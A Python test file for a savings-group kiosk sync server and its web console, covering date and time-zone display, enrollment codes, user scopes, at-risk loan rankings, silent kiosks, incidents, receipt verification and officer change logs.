    assert zone_for(["TG", "BJ"]) is zone_for(["*"]) is zone_for([]) is UTC  # several countries: no one's time
    # A scope of cooperatives only: the time of the countries its groups are in (ELIKE's: Togo).
    for user, zone in (("coord_bj", "WAT"), ("coord_tg", "GMT"), ("coord_coop", "GMT"), ("admin", "UTC")):
        reader = TestClient(w.client.app, base_url="http://testserver")
        login(reader, user)
        kiosks = reader.get("/kiosks").text
        assert re.search(rf"\d\d:\d\d {zone}", kiosks), user
        assert not re.search(rf"\d\d:\d\d (?!{zone})[A-Z]{{3}}\b", kiosks), user
    assert (day("2026-10-26", "fr"), day("2026-10-26", "en"), day(None, "fr"), day("26 oct.", "fr")) == (
        "26/10/2026",
        "2026-10-26",
        "—",
        "26 oct.",
    )
    french = admin.get(w.group_url("K01") + "?mp=2").text
    assert "04/05/2026" in french and "2026-05-04" not in french
    english = _as(w, "admin", "en").get(w.group_url("K01") + "?mp=2").text
    assert "2026-05-04" in english and "04/05/2026" not in english
    kiosks = admin.get("/kiosks").text
    assert re.search(r"\d\d/\d\d/20\d\d<span", kiosks) and not re.search(r">20\d\d-\d\d-\d\d", kiosks)
    assert "2026-05-04" in admin.get("/exports/meetings.csv").text  # files keep ISO dates


def test_an_enrollment_form_sent_twice_creates_one_code(w: World) -> None:
    c = _as(w, "coord_tg")
    page = c.get("/enrollments").text
    form = {"csrf": csrf_of(page), "nonce": NONCE.search(page)[1], "country": "TG", "kiosk_id": "K56"}
    first = c.post("/enrollments", data=form)
    assert re.search(r"Code pour K56 : [A-Z0-9-]{14}", first.text)
    again = c.post("/enrollments", data=form)  # the result page reloaded: the browser sends the form again
    assert again.status_code == 200 and _alert(again).startswith("Ce code a déjà été créé")
    assert "Code pour" not in again.text and again.text.count("<strong>K56</strong>") == 1
    assert NONCE.search(first.text)[1] != form["nonce"]  # the next form is a new one
    with w.server.engine.connect() as conn:
        waiting = conn.execute(
            select(enrollment_codes.c.code_hash).where(
                enrollment_codes.c.kiosk_id == "K56", enrollment_codes.c.used_at.is_(None)
            )
        ).all()
    assert len(waiting) == 1
    # a form refused is not spent: corrected, it is sent again with the same nonce
    other = {**form, "nonce": NONCE.search(again.text)[1], "kiosk_id": "K57"}
    assert c.post("/enrollments", data={**other, "replace": "true"}).status_code == 404  # K57 never enrolled
    assert "Code pour K57" in c.post("/enrollments", data=other).text


def test_cooperatives_are_one_per_line_and_countries_two_letter_codes(w: World, admin: TestClient) -> None:
    csrf = csrf_of(admin.get("/users").text)
    made = admin.post(
        "/users",
        data={
            "csrf": csrf,
            "username": "coop_comma",
            "password": "x" * 12,
            "role": "viewer",
            "countries": "tg, bj",
            "cooperatives": "Union des producteurs, Kpalimé\r\nCoop B\r\n",
        },
        follow_redirects=False,
    )
    assert made.status_code == 303
    user = next(u for u in accounts.list_users(w.server.engine) if u["username"] == "coop_comma")
    assert (user["countries"], user["cooperatives"]) == (["BJ", "TG"], ["Coop B", "Union des producteurs, Kpalimé"])
    # the users table gives the scope back one per line, so that saving it unchanged changes nothing
    row = re.search(rf'action="/users/{user["user_id"]}".*?<textarea name="cooperatives"[^>]*>(.*?)</textarea>',
                    admin.get("/users").text, re.S)[1]  # fmt: skip
    assert html.unescape(row).splitlines() == ["Coop B", "Union des producteurs, Kpalimé"]
    scope = {
        "csrf": csrf,
        "action": "scope",
        "role": "viewer",
        "countries": "BJ, TG",
        "cooperatives": html.unescape(row),
    }
    assert admin.post(f"/users/{user['user_id']}", data=scope, follow_redirects=False).status_code == 303
    again = next(u for u in accounts.list_users(w.server.engine) if u["username"] == "coop_comma")
    assert again["cooperatives"] == ["Coop B", "Union des producteurs, Kpalimé"]
    for typed in ("Togo", "TGO", "T1"):
        refused = admin.post(
            "/users",
            data={
                "csrf": csrf,
                "username": f"pays-{typed}",
                "password": "x" * 12,
                "role": "viewer",
                "countries": typed,
            },
        )
        assert refused.status_code == 400 and _alert(refused).startswith("Un pays s'écrit en code de deux lettres")
    assert not any(u["username"].startswith("pays-") for u in accounts.list_users(w.server.engine))


def test_groups_to_follow_are_those_with_the_most_money_at_risk_in_a_fixed_order() -> None:
    from sync_server.authz import Principal
    from sync_server.web import queries

    engine = create_engine("sqlite://")
    metadata.create_all(engine)
    groups = {  # name: (loans outstanding, of which more than 30 days late)
        "Petit": (1_000, 1_000),  # 100 %, but little money
        "Grand": (100_000, 40_000),
        "bêta": (10_000, 5_000),
        "Alpha": (10_000, 5_000),
    }
    loan = {c: None for c, _ in TABLES["loans"].columns if c not in ("group_id", "loan_id", "principal")} | {
        "term_months": 1,
        "rounding_unit": 5,
        "start": "2025-01-01",
        "principal_paid": 0,
        "method": "flat",
        "rate_bp": 200,
        "penalty_bp": 0,
        "status": "active",
        "kind": "loan",
    }
    with engine.begin() as conn:
        for i, (name, (loans, late)) in enumerate(groups.items()):
            key = {"kiosk_id": f"K{i}", "group_id": f"G{i}"}
            conn.execute(projections["groups"].insert().values(**key, name=name, country="TG", meeting_count=1))
            conn.execute(console_totals.insert().values(**key, loans=loans))
            conn.execute(projections["loans"].insert().values(loan | key | {"loan_id": "late", "principal": late}))
            if loans > late:  # the rest lent a fortnight ago: not late
                young = {"loan_id": "new", "principal": loans - late, "start": "2025-12-20"}
                conn.execute(projections["loans"].insert().values(loan | key | young))
        found = queries.overview(conn, Principal(1, "a", "admin"), date(2026, 1, 1), 0, 14)["attention"]
    assert [(g["name"], g["par30"]) for g in found] == [
        ("Grand", 40_000),
        ("Alpha", 5_000),
        ("bêta", 5_000),
        ("Petit", 1_000),
    ]


def test_a_kiosk_enrolled_but_not_yet_synced_is_not_silent(backend: ServerDb, tmp_path: Path) -> None:
    from kiosk.services import Kiosk
    from kiosk.store.clock import FixedClock
    from kiosk.sync.enrollment import enroll

    with running(backend) as s:
        accounts.create_user(s.engine, "awa", PASSWORD, "admin")
        k = Kiosk.open(tmp_path / "k66.db", FixedClock())
        try:
            enroll(k.store, SERVER, s.code("K66"), http=s.client)  # enrolled, never pushed
        finally:
            k.close()
        c = TestClient(s.client.app, base_url="http://testserver")
        login(c, "awa")
        c.cookies.set("lang", "fr")

        def silent() -> tuple[int, bool]:
            figures = c.get("/v1/console/overview").json()["figures"]
            assert figures["kiosks"] == 1
            return figures["silent"], "muet" in c.get("/kiosks").text

        assert silent() == (0, False)
        fifteen_days_ago = now_ms() - 15 * 86_400_000
        with s.engine.begin() as conn:  # enrolled fifteen days ago, and still nothing
            conn.execute(update(kiosk_keys).values(created_at=fifteen_days_ago))
        assert silent() == (1, True)
        with s.engine.begin() as conn:  # it pushed an hour ago
            conn.execute(update(kiosks).values(last_push_at=now_ms() - 3_600_000))
        assert silent() == (0, False)
        with s.engine.begin() as conn:  # its last push was fifteen days ago too
            conn.execute(update(kiosks).values(last_push_at=fifteen_days_ago))
        assert silent() == (1, True)


def test_incidents_are_on_the_kiosks_page_in_words_within_scope(w: World, admin: TestClient) -> None:
    from sync_server.ingest import record_incident

    engine = w.server.engine
    with engine.connect() as conn:  # the world is shared: what this test files, it takes back
        before = conn.scalar(select(func.max(incidents.c.incident_id))) or 0
    record_incident(engine, "K01", "events_quarantined", {"seqs": [7, 9], "count": 2}, None)
    forged = {"code": "signature_invalid", "claimed_not_proven": True}
    record_incident(engine, "K02", "signature_invalid", forged, "10.0.0.7")
    record_incident(engine, None, "weird_new_code", {}, "10.0.0.8")  # no kiosk, no sentence yet
    try:
        page = admin.get("/kiosks").text
        assert "Événements mis en quarantaine" in page and "(2)" in page
        assert "Signature qui n&#39;est pas celle de ce kiosque" in page and "se dit ce kiosque" in page
        assert "weird_new_code" in page  # an administrator sees everything, even what has no words yet
        tg = TestClient(w.client.app, base_url="http://testserver")
        login(tg, "coord_tg")
        theirs = tg.get("/kiosks").text
        assert "Événements mis en quarantaine" in theirs  # K01 is in Togo…
        assert "Signature qui" not in theirs and "weird_new_code" not in theirs  # …K02 in Benin, the other nobody's
        api = tg.get("/v1/admin/incidents", headers=token(tg, "coord_tg")).json()
        assert {i["kiosk_id"] for i in api} == {"K01"}
    finally:
        with engine.begin() as conn:
            conn.execute(delete(incidents).where(incidents.c.incident_id > before))


def test_a_per_movement_receipt_verifies_as_its_paper_reads(tmp_path: Path) -> None:
    """In per-movement mode the share-out's parts are on the member's closing receipt only."""
    from conftest import make_group
    from test_console_support import add_people, sync, token
    from test_sync_support import server_db

    from kiosk.services import Kiosk
    from kiosk.services import movements as V
    from kiosk.store.clock import FixedClock
    from kiosk.sync import state

    DAY = date(2026, 3, 2)
    db = server_db("sqlite", tmp_path)
    with running(db) as server:
        k = Kiosk.open(tmp_path / "k.db", FixedClock())
        k.store.set_setting("kiosk_id", "K01")
        state.update(k.store, server_url="http://testserver")
        g = make_group(k, n_members=2, rules={"share_out": True})
        k.store.set_setting("receipt_mode", "movement")
        first = g.open(DAY, attendance=None)
        V.contribution(k, first, g.treasurer, g.member(0), "verte", 10000)
        V.contribution(k, first, g.treasurer, g.member(1), "verte", 30000)
        g.close(first)
        last = g.open(date(2026, 3, 9), attendance=None)
        V.contribution(k, last, g.treasurer, g.member(0), "verte", 500)  # per-movement receipt
        loan = V.grant_loan(k, last, g.treasurer, g.member(1), 20000, 1, g.two())
        V.repay(k, last, g.treasurer, loan, V.loan_due(k, loan, date(2026, 3, 9)).payoff)
        V.do_share_out(k, last, g.treasurer, g.two(), payout=True)
        g.close(last)
        sync(server, k, "K01")
        add_people(server)
        docs = [
            json.loads(r["doc"]) for r in k.store.query("SELECT doc FROM print_jobs WHERE kind='member' ORDER BY id")
        ]
        per = next(d for d in docs if d.get("per_movement") and d["movements"][0]["amount"] == 500)
        c = TestClient(server.client.app, base_url="http://testserver")
        api = c.get(f"/v1/console/verify/{per['number']}/{per['code']}", headers=token(c, "admin")).json()
        paper = [(m["kind"], m["amount"]) for m in per["movements"]]
        shown = [(m["kind"], m["amount"]) for m in api["content"]["movements"]]
        assert api["verdict"] == "genuine"
        assert shown == paper  # the meeting's share-out is on its closing receipt, not on this one
        closing = next(d for d in docs if not d.get("per_movement") and d["member"] == per["member"])
        api = c.get(f"/v1/console/verify/{closing['number']}/{closing['code']}", headers=token(c, "admin")).json()
        assert [(m["kind"], m["amount"]) for m in api["content"]["movements"]] == [
            (m["kind"], m["amount"]) for m in closing["movements"]
        ]
        # A member's savings lines on the console are their relevé's, the share-out's two lines included.
        for member in (g.member(0), g.member(1)):
            relevé = [(m["kind"], m["savings"]) for m in ST.statement_doc(k, member)["movements"] if m["savings"]]
            url = f"/v1/console/groups/K01/{g.group_id}/members/{member}"
            lines = c.get(url, headers=token(c, "admin")).json()["savings_lines"]
            assert [(s["kind"], s["change"]) for s in reversed(lines)] == relevé
            assert {"share_gain", "share_out"} <= {kind for kind, _ in relevé}
        k.close()


@pytest.mark.parametrize("backend", BACKENDS)
def test_the_group_page_shows_who_took_office_was_renamed_or_had_a_pin_reset(backend: str, tmp_path: Path) -> None:
    from conftest import make_group
    from test_console_support import add_people, sync
    from test_sync_support import server_db

    from kiosk.services import Kiosk
    from kiosk.services import groups as G
    from kiosk.store.clock import FixedClock

    db = server_db(backend, tmp_path)
    try:
        with running(db) as server:
            k = Kiosk.open(tmp_path / "k.db", FixedClock())
            k.store.set_setting("kiosk_id", "K01")
            g = make_group(k, n_members=2)
            g.close(g.open(date(2026, 3, 2)))
            G.change_pin(k, g.officers["secretaire"]["member_id"], "8642", current_pin="1397")
            G.reset_pin(k, g.officers["tresorier"]["member_id"], "9753", g.two("president", "controleur"))
            G.update_member(k, g.member(0), name="Ama Kodjo", approvals=g.two())
            G.update_member(k, g.member(1), role="secretaire", approvals=g.two("president", "controleur"))
            for n in range(35):  # nothing to watch: not listed, and never pushing the rest off the page
                G.update_member(k, g.member(1), phone=f"900000{n:02d}")
            other = make_group(k, n_members=1, name="MUSO Autre")  # the same kiosk, another group
            G.change_pin(k, other.officers["secretaire"]["member_id"], "8642", current_pin="1397")
            G.update_member(k, g.member(0), name="Ama Koffi", role="controleur", approvals=g.two())  # both at once
            sync(server, k, "K01")
            add_people(server)
            c = TestClient(server.client.app, base_url="http://testserver")
            login(c, "admin")
            c.cookies.set("lang", "fr")
            page = html.unescape(c.get(f"/groups/K01/{g.group_id}").text)
            log = page.split("Responsables, noms et codes")[1].split("Exporter ce groupe")[0]
            rows = re.findall(r"<tr><td class=\"date\">.*?</tr>", log)
            assert len(rows) == 6  # not the other group's PIN change
            both = "1. Officier president, 4. Officier controleur"
            assert "5. Ama Koffi</td><td>devient contrôleur·euse" in rows[0]
            assert "5. Ama Koffi</td><td>renommé·e « Ama Koffi »" in rows[1] and both in rows[1]
            rows = rows[2:]
            assert "6. Membre 1</td><td>devient secrétaire" in rows[0] and both in rows[0]
            assert "5. Ama Koffi</td><td>renommé·e « Ama Kodjo »" in rows[1] and both in rows[1]
            assert '3. Officier tresorier</td><td><span class="tag bad">code réinitialisé' in rows[2]
            assert both in rows[2]
            assert "2. Officier secretaire</td><td>a changé son code" in rows[3] and "—" in rows[3]
            k.close()
    finally:
        if db.cleanup:
            db.cleanup()
